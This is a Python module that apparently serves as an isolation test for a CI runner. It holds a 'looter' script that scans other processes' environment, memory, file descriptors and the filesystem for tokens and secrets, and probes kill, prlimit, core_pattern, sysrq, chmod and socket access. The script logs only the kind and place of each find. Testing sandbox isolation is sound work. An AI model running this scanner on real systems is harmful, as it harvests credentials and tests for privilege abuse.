"""The program of a malicious module: it searches the machine for everything that is not its own.

It prints the kind and the place of each find, but never the content, which the log would mask: a line `LOOT …` each, then `looked at …`.
"""

# Another person's job has this in its variables and its files; the looter searches for it besides tokens.
PASSWORD_OF_ANOTHER = "password-of-another-job"

PROGRAM = r'''
import base64, ctypes, glob, json, os, re, resource, socket, sys

TOKEN = re.compile(rb"ryw_[A-Za-z0-9]{43}|eyJ[\w-]{8,}\.eyJ[\w-]{16,}\.[\w-]{16,}")
OTHER = b"password-of-" + b"another-job"
OWN_ROLES = {"engine", "anon"}
SECRETS = re.compile(rb"\"(?:secret_key|jwt_secret|signing_key)\"")
found, places = set(), 0


def role(token):
    body = token.split(b".")[1]
    try:
        return json.loads(base64.urlsafe_b64decode(body + b"=" * (-len(body) % 4)))["role"]
    except (ValueError, KeyError, TypeError):
        return "engine"


def look(where, data):
    global places
    places += 1
    for token in TOKEN.findall(data):
        if token.startswith(b"ryw_"):
            found.add(("the token of a runner", where))
        elif role(token) not in OWN_ROLES:
            found.add(("a token of the role " + role(token), where))
    if OTHER in data:
        found.add(("the password of another job", where))
    if SECRETS.search(data):
        found.add(("the secrets of the installation", where))


def read(path, most=4_000_000):
    try:
        with open(path, "rb") as file:
            look(path, file.read(most))
    except OSError:
        pass


def memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as content:
            for line in maps:
                area, rights = line.split()[:2]
                start, end = (int(each, 16) for each in area.split("-"))
                if rights.startswith("rw") and end - start < 1 << 28:
                    try:
                        content.seek(start)
                        look(f"/proc/{pid}/mem", content.read(end - start))
                    except OSError:
                        pass
    except OSError:
        pass


def signal(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            words = file.read()
        if b"runyard-worker" in words or b"worker.cli" in words:
            attempt("the way to end the runner", f"process {pid}", lambda: os.kill(pid, 0))
            attempt("the way to limit the runner", f"process {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_CPU))
    except OSError:
        pass


def attempt(what, where, act):
    try:
        act()
        found.add((what, where))
    except (OSError, ValueError):
        pass


def watch(path):
    libc = ctypes.CDLL(None)
    if libc.inotify_add_watch(libc.inotify_init(), path.encode(), 0x100) < 0:
        raise OSError


def connect(name):
    with socket.socket(socket.AF_UNIX) as mine:
        mine.connect(chr(0) + name)


def attack(victim):
    """Change or watch what is somebody else's; the mode stays the same, so that a hole does no harm."""
    kind, _, name = victim.partition(":")
    if kind == "socket":
        attempt("an abstract socket", name, lambda: connect(name))
        return
    attempt("the way to change its mode", name, lambda: os.chmod(name, os.stat(name).st_mode & 0o7777))
    attempt("the way to watch it", name, lambda: watch(name))


def follow(pid):
    """Through the open files and the root of another process."""
    for link in glob.glob(f"/proc/{pid}/fd/*") + [os.path.join("/proc", str(pid), "root", "run/secrets/WORKER_TOKEN")]:
        try:
            if os.path.isfile(link):
                read(link)
        except OSError:
            pass


for entry in glob.glob("/proc/[0-9]*"):
    pid = int(entry.rsplit("/", 1)[1])
    read(f"{entry}/environ")
    if pid not in {os.getpid(), os.getppid()}:
        read(f"{entry}/cmdline")
        signal(pid)
        if "ATTACKS_ONLY" not in os.environ:
            memory(pid)
            follow(pid)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity"):
    attempt("the way to change the machine", path, lambda: os.close(os.open(path, os.O_WRONLY)))
for victim in os.environ.get("VICTIMS", "").split():
    attack(victim)
for place in sys.argv[1:]:
    read(place)
    for folder, _, names in os.walk(place, onerror=lambda _: None):
        for name in names:
            if os.path.isfile(os.path.join(folder, name)):
                read(os.path.join(folder, name))
for what, where in sorted(found):
    print("LOOT", what, "in", where, file=sys.stderr, flush=True)
print("looked at", places, "places", file=sys.stderr, flush=True)
'''


def shell(*places: object, victims: str = "") -> str:
    """The looter as a script for `sh`, for a hook or a provisioner; it never fails.

    `victims` are the things that it tries to change, watch or connect to: `file:` and a path, `socket:` and an abstract name.
    """
    words = " ".join(f"'{place}'" for place in places)
    python = "$(ls /usr/bin/python3 /usr/local/bin/python3 2>/dev/null | head -n 1)"
    return f"VICTIMS='{victims}' {python} - {words} <<'LOOTER'\n{PROGRAM}\nLOOTER\n"


def loot(log: str) -> list[str]:
    """Return the finds in a job's log."""
    return sorted({line[line.index("LOOT ") :].strip() for line in log.splitlines() if "LOOT " in line})


def looks(log: str) -> int:
    """Count the looter's completed searches."""
    return sum("looked at " in line for line in log.splitlines())
